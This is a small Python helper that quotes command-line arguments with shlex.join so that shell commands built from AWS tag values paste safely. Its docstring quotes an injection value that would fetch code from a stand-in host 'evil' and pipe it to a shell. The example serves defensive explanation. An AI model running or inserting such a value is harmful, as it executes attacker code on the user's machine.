"""Shell commands the tool prints for a person to run, with every value quoted."""

from __future__ import annotations

import shlex


def shell_command(*args: str) -> str:
    """``args`` as one command line: values read from AWS may hold any character.

    A tag parameter's value is whatever was last written to it, for example
    ``initial;curl${IFS}evil|sh``; ``shlex.join`` quotes it so that pasting the
    command runs exactly one program with exactly these arguments.
    """
    return shlex.join(args)
